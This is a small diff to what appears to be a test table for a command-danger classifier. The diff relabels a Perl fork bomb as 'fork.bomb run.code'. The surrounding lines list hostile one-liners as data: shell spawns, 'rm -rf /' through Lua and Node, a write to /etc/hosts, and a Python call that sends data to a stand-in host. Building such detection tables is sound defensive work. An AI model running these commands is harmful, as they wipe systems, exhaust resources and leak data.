@@ -51,7 +51,7 @@ DANGEROUS = {
     "python3 -c \"import urllib.request; urllib.request.urlopen('http://x.example?d=1')\"": "run.code",
     "python3 -c \"open('/etc/hosts','a').write('x')\"": "write.system",
     "perl -e 'exec \"/bin/sh\"'": "run.code",
-    "perl -e 'fork while fork'": "run.code",
+    "perl -e 'fork while fork'": "fork.bomb run.code",
     "ruby -e 'exec(\"/bin/sh\")'": "run.code",
     "lua -e 'os.execute(\"rm -rf /\")'": "delete.root run.code",
     'node -e \'require("child_process").execSync("rm -rf /")\'': "delete.root run.code",
